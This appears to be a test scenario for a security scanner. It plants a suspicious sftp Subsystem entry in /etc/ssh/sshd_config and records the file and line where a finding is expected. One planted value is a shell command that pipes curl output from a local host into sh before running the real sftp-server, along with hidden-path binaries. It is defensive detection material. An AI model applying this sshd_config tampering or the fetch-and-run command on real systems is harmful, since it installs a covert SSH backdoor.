# id: P459
# mode: scan
# level: suspicious
# title: the file transfer of sshd is another program
# due: now
word name
pick program "/usr/lib/.$name/sftp-server" "/var/tmp/$name" "/bin/sh -c 'curl -s 127.0.0.1/$name|sh; exec /usr/lib/openssh/sftp-server'"
sed -i "s#^Subsystem.*#Subsystem sftp $program#" /etc/ssh/sshd_config
said path /etc/ssh/sshd_config
said line "/etc/ssh/sshd_config:$(grep -n ^Subsystem /etc/ssh/sshd_config | cut -d: -f1)"
